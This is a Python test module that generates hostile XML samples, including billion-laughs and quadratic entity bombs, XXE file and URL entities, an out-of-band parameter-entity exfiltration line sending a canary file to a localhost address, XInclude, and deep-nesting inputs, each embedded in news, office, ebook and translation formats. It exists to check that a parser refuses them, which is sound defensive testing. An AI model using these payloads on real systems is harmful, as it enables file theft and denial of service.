"""XML that grows, reaches out or never ends, in every format that is XML inside."""

from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from tempfile import gettempdir
from typing import Literal

import msgspec

from tests.hostile.archives import zip_files
from tests.hostile.sample import CANARY, Sample, story

CANARY_PATH = Path(gettempdir(), "dragoman-canary.txt")
"""A file of this machine that documents name; `plant_canary` makes it."""
XML_BOUND = "no document type is read, no entity defined, nothing fetched"
DEPTH_BOUND = "lxml stops at 256 elements inside one another"
SIZE_BOUND = "5 MB of text (`MaxDocumentBytes`), 20 MB of characters for a tree"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


def plant_canary() -> None:
    """Make the file that no record may hold a word of."""
    CANARY_PATH.write_text(f"{CANARY} {story()}", "utf-8")


class Vehicle(msgspec.Struct, frozen=True):
    """A format with XML in it: a document type before its root, and a paragraph, are the attacker's."""

    name: str
    key: str
    write: Callable[[str, str], bytes]
    """From what stands before the root element, and markup inside a paragraph."""
    kind: Literal["document", "glossary", "corrections"] = "document"


def _nitf(prolog: str, inner: str) -> bytes:
    body = f"<body><body.head><hedline><hl1>Storm</hl1></hedline></body.head><body.content><p>{story()}</p><p>{inner}</p></body.content></body>"
    return f"<?xml version='1.0'?>{prolog}<nitf>{body}</nitf>".encode()


def _newsml(prolog: str, inner: str) -> bytes:
    inline = f"<inlineXML><html xmlns='http://www.w3.org/1999/xhtml'><body><p>{story()}</p><p>{inner}</p></body></html></inlineXML>"
    item = "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/' guid='urn:x:1'><contentMeta><headline>Storm</headline></contentMeta>"
    return f"<?xml version='1.0'?>{prolog}{item}<contentSet>{inline}</contentSet></newsItem>".encode()


def _rss(prolog: str, inner: str) -> bytes:
    item = f"<item><guid>1</guid><title>Storm</title><description>{story()} {inner}</description></item>"
    return f"<?xml version='1.0'?>{prolog}<rss version='2.0'><channel><title>c</title>{item}</channel></rss>".encode()


def _atom(prolog: str, inner: str) -> bytes:
    content = f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'><p>{story()}</p><p>{inner}</p></div></content>"
    return f"<?xml version='1.0'?>{prolog}<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id><title>Storm</title>{content}</entry></feed>".encode()


def write_docx(document: str, *others: tuple[str, str]) -> bytes:
    """A Word file of one part, and whatever else is given."""
    types = (
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='rels' "
        "ContentType='application/vnd.openxmlformats-package.relationships+xml'/><Override PartName='/word/document.xml' "
        "ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>"
    )
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    relations = f"<Relationships xmlns='{_RELATIONS}'><Relationship Id='r1' Type='{relation}' Target='word/document.xml'/></Relationships>"
    parts = (("[Content_Types].xml", types), ("_rels/.rels", relations), ("word/document.xml", document), *others)
    return zip_files(*((name, text.encode()) for name, text in parts))


def word_document(content: str, prolog: str = "") -> str:
    """`word/document.xml` around its paragraphs."""
    return f"<?xml version='1.0'?>{prolog}<w:document xmlns:w='{_WORD}'><w:body>{word_paragraph(story())}{content}</w:body></w:document>"


def word_paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _docx(prolog: str, inner: str) -> bytes:
    return write_docx(word_document(word_paragraph(inner), prolog))


def _docx_properties(prolog: str, inner: str) -> bytes:
    core = (
        f"<?xml version='1.0'?>{prolog}<cp:coreProperties xmlns:dc='http://purl.org/dc/elements/1.1/' "
        f"xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties'><dc:title>{inner}</dc:title></cp:coreProperties>"
    )
    return write_docx(word_document(""), ("docProps/core.xml", core))


def write_odt(content: str, prolog: str = "") -> bytes:
    """An OpenDocument text of some paragraphs."""
    text = (
        f"<?xml version='1.0'?>{prolog}<office:document-content xmlns:office='{_OFFICE}' xmlns:text='{_TEXT}' "
        "xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0' xmlns:style='urn:oasis:names:tc:opendocument:xmlns:style:1.0'>"
        f"<office:body><office:text><text:p>{story()}</text:p>{content}</office:text></office:body></office:document-content>"
    )
    return zip_files(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", text.encode()))


def _odt(prolog: str, inner: str) -> bytes:
    return write_odt(f"<text:p>{inner}</text:p>", prolog)


_CHAPTER = "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>c</title></head><body>"


def write_epub(package: str, chapter: str, container: str | None = None) -> bytes:
    """A book of one chapter."""
    container = container or (
        "<container xmlns='urn:oasis:names:tc:opendocument:xmlns:container' version='1.0'><rootfiles>"
        "<rootfile full-path='content.opf' media-type='application/oebps-package+xml'/></rootfiles></container>"
    )
    parts = (
        ("mimetype", "application/epub+zip"),
        ("META-INF/container.xml", container),
        ("content.opf", package),
        ("c.xhtml", chapter),
    )
    return zip_files(*((name, text.encode()) for name, text in parts))


def epub_package(title: str = "Storm", spine: str = "<itemref idref='c'/>", prolog: str = "") -> str:
    """The list of a book's chapters."""
    return (
        f"<?xml version='1.0'?>{prolog}<package xmlns='http://www.idpf.org/2007/opf' version='3.0'><metadata "
        f"xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>{title}</dc:title></metadata><manifest>"
        f"<item id='c' href='c.xhtml' media-type='application/xhtml+xml'/></manifest><spine>{spine}</spine></package>"
    )


def _epub_package(prolog: str, inner: str) -> bytes:
    return write_epub(epub_package(inner, prolog=prolog), f"{_CHAPTER}<p>{story()}</p></body></html>")


def _epub_chapter(prolog: str, inner: str) -> bytes:
    return write_epub(
        epub_package(), f"<?xml version='1.0'?>{prolog}{_CHAPTER}<p>{story()}</p><p>{inner}</p></body></html>"
    )


def _epub_container(prolog: str, inner: str) -> bytes:
    container = (
        f"<?xml version='1.0'?>{prolog}<container xmlns='urn:oasis:names:tc:opendocument:xmlns:container' version='1.0'><rootfiles>"
        f"<rootfile full-path='content.opf' media-type='application/oebps-package+xml'>{inner}</rootfile></rootfiles></container>"
    )
    return write_epub(epub_package(), f"{_CHAPTER}<p>{story()}</p></body></html>", container)


def _page(prolog: str, inner: str) -> bytes:
    return f"{prolog}<html xmlns='http://www.w3.org/1999/xhtml'><body><article><p>{story()}</p><p>{story()}</p><p>{inner}</p></article></body></html>".encode()


def _tmx(prolog: str, inner: str) -> bytes:
    unit = f"<tu><tuv xml:lang='en'><seg>harbour</seg></tuv><tuv xml:lang='pt'><seg>porto {inner}</seg></tuv></tu>"
    return f"<?xml version='1.0'?>{prolog}<tmx version='1.4'><header srclang='en'/><body>{unit}</body></tmx>".encode()


def _xliff(prolog: str, inner: str) -> bytes:
    unit = f"<trans-unit id='1'><source>harbour</source><target>porto {inner}</target></trans-unit>"
    return f"<?xml version='1.0'?>{prolog}<xliff version='1.2'><file source-language='en' target-language='pt'><body>{unit}</body></file></xliff>".encode()


def _tbx(prolog: str, inner: str) -> bytes:
    sections = f"<langSet xml:lang='en'><tig><term>harbour</term></tig></langSet><langSet xml:lang='pt'><tig><term>porto {inner}</term></tig></langSet>"
    return f"<?xml version='1.0'?>{prolog}<martif type='TBX'><text><body><termEntry>{sections}</termEntry></body></text></martif>".encode()


VEHICLES = (
    Vehicle("NITF", "a.xml", _nitf),
    Vehicle("NewsML", "a.xml", _newsml),
    Vehicle("RSS", "a.xml", _rss),
    Vehicle("Atom", "a.xml", _atom),
    Vehicle("DOCX text", "a.docx", _docx),
    Vehicle("DOCX properties", "a.docx", _docx_properties),
    Vehicle("ODT", "a.odt", _odt),
    Vehicle("EPUB package", "a.epub", _epub_package),
    Vehicle("EPUB chapter", "a.epub", _epub_chapter),
    Vehicle("EPUB container", "a.epub", _epub_container),
    Vehicle("page", "a.html", _page),
    Vehicle("TMX", "en-pt/a.tmx", _tmx, "glossary"),
    Vehicle("XLIFF", "en-pt/a.xlf", _xliff, "glossary"),
    Vehicle("TBX", "en-pt/a.tbx", _tbx, "glossary"),
)


def _laughs(levels: int) -> tuple[str, str]:
    """Each entity ten of the one before."""
    names = [f"l{level}" for level in range(levels)]
    pairs = pairwise(names)
    definitions = "<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY {name} '{10 * f'&{before};'}'>" for before, name in pairs)
    return f"<!DOCTYPE x [{definitions}]>", f"&{names[-1]};"


def _quadratic(size: int) -> tuple[str, str]:
    """One long entity, asked for again and again."""
    return f"<!DOCTYPE x [<!ENTITY a '{'a' * size}'>]>", "&a;" * (size // 3)


def _external(address: str) -> Callable[[int], tuple[str, str]]:
    return lambda _: (f"<!DOCTYPE x [<!ENTITY a SYSTEM '{address}'>]>", "&a;")


def _external_dtd(_: int) -> tuple[str, str]:
    return "<!DOCTYPE x SYSTEM 'http://127.0.0.1:9/evil.dtd'>", "words"


def _parameter(_: int) -> tuple[str, str]:
    definitions = f"<!ENTITY % file SYSTEM 'file://{CANARY_PATH}'><!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1:9/?%file;'>\">%all;"
    return f"<!DOCTYPE x [{definitions}]>", "&send;"


def _parameter_bomb(levels: int) -> tuple[str, str]:
    inner = "".join(f"<!ENTITY % p{level + 1} '{10 * f'%p{level};'}'>" for level in range(levels))
    definitions = "<!ENTITY % p0 'ha'>" + inner
    return f"<!DOCTYPE x [{definitions}%p{levels};]>", "words"


def _include(_: int) -> tuple[str, str]:
    include = f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{CANARY_PATH}' parse='text'/>"
    return "", include + "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://127.0.0.1:9/x'/>"


def _stylesheet(_: int) -> tuple[str, str]:
    return f"<?xml-stylesheet type='text/xsl' href='file://{CANARY_PATH}'?>", "words"


def _deep(levels: int) -> tuple[str, str]:
    return "", "<b>" * levels + "words" + "</b>" * levels


def _unclosed(levels: int) -> tuple[str, str]:
    return "", "<b>" * levels


def _namespaces(count: int) -> tuple[str, str]:
    return "", "".join(f"<n{number}:b xmlns:n{number}='urn:{number}'/>" for number in range(count))


def _inherited_namespaces(count: int) -> tuple[str, str]:
    declared = " ".join(f"xmlns:n{number}='urn:{number}'" for number in range(count))
    return "", f"<b {declared}>" + "<b/>" * count + "</b>"


def _attribute(size: int) -> tuple[str, str]:
    return "", f"<b c='{'x' * size}'>words</b>"


def _attributes(count: int) -> tuple[str, str]:
    attributes = " ".join(f"a{number}='x'" for number in range(count))
    return "", f"<b {attributes}>words</b>"


def _siblings(count: int) -> tuple[str, str]:
    return "", "<b/>a" * count


def _comments(count: int) -> tuple[str, str]:
    return "", "<!-- a -->a" * count


def _doctype(size: int) -> tuple[str, str]:
    return f"<!DOCTYPE x [{size // 16 * '<!ELEMENT a (b)>'}]>", "words"


def _open_doctype(size: int) -> tuple[str, str]:
    return f"<!DOCTYPE x [{size // 4 * '<!--'}", "words"


def _references(count: int) -> tuple[str, str]:
    return "", "&#65;&nosuch;" * count


class Attack(msgspec.Struct, frozen=True):
    """What is done to each vehicle."""

    name: str
    threat: str
    write: Callable[[int], tuple[str, str]]
    size: int
    small: int
    bound: str


_GROWTH, _REACH, _BULK = "XML that grows: entities", "XML that reaches out", "XML without end"
ATTACKS = (
    Attack("billion laughs", _GROWTH, _laughs, 10, 10, XML_BOUND),
    Attack("quadratic blow-up", _GROWTH, _quadratic, 1_000_000, 20_000, XML_BOUND),
    Attack("parameter entities in entities", _GROWTH, _parameter_bomb, 10, 10, XML_BOUND),
    Attack("external entity: a file", _REACH, _external(f"file://{CANARY_PATH}"), 1, 1, XML_BOUND),
    Attack("external entity: an address", _REACH, _external("http://127.0.0.1:9/x"), 1, 1, XML_BOUND),
    Attack("external document type", _REACH, _external_dtd, 1, 1, XML_BOUND),
    Attack("parameter entity that sends a file", _REACH, _parameter, 1, 1, XML_BOUND),
    Attack("XInclude", _REACH, _include, 1, 1, "nothing is included"),
    Attack("style sheet", _REACH, _stylesheet, 1, 1, XML_BOUND),
    Attack("100,000 elements inside one another", _BULK, _deep, 100_000, 2_000, DEPTH_BOUND),
    Attack("300,000 elements never closed", _BULK, _unclosed, 300_000, 2_000, DEPTH_BOUND),
    Attack("50,000 namespaces", _BULK, _namespaces, 50_000, 500, SIZE_BOUND),
    Attack("10,000 namespaces inherited by 10,000 elements", _BULK, _inherited_namespaces, 10_000, 200, SIZE_BOUND),
    Attack("attribute of 4 MB", _BULK, _attribute, 4_000_000, 50_000, SIZE_BOUND),
    Attack("100,000 attributes", _BULK, _attributes, 100_000, 500, SIZE_BOUND),
    Attack("500,000 empty siblings", _BULK, _siblings, 500_000, 2_000, SIZE_BOUND),
    Attack("300,000 comments", _BULK, _comments, 300_000, 2_000, SIZE_BOUND),
    Attack("document type of 4 MB", _BULK, _doctype, 4_000_000, 50_000, SIZE_BOUND),
    Attack("document type never closed", _BULK, _open_doctype, 4_000_000, 50_000, SIZE_BOUND),
    Attack("300,000 references to nothing", _BULK, _references, 300_000, 2_000, SIZE_BOUND),
)


def build() -> Iterator[Sample]:
    """Every attack on every vehicle."""
    for attack in ATTACKS:
        for vehicle in VEHICLES:
            yield Sample(
                f"{attack.name}: {vehicle.name}",
                attack.threat,
                vehicle.key,
                _load(attack, vehicle),
                attack.size,
                attack.small,
                "",
                attack.bound,
                row=attack.name,
                kind=vehicle.kind,
            )


def _load(attack: Attack, vehicle: Vehicle) -> Callable[[int], bytes]:
    return lambda size: vehicle.write(*attack.write(size))
